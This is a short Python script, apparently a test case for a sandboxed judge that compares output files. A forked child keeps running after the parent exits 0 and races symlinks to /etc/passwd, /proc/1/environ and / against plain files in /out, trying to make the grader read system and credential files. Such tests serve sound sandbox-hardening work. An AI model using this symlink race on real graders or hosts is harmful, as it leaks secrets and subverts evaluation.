# Verdict: exit 0
# Alone: its files are compared
import os, time
if os.fork():
    time.sleep(0.3)
    os._exit(0)
open("/tmp/real", "w").write("x")
while True:
    for source in ("/etc/passwd", "/proc/1/environ", "/"):
        os.symlink(source, "/tmp/next")
        os.rename("/tmp/next", "/tmp/link")
        try:
            os.symlink(source, "/out/next")
            os.rename("/out/next", "/out/swapped")
            open("/out/plain", "w").write("x")
            os.rename("/out/plain", "/out/swapped")
        except OSError:
            pass
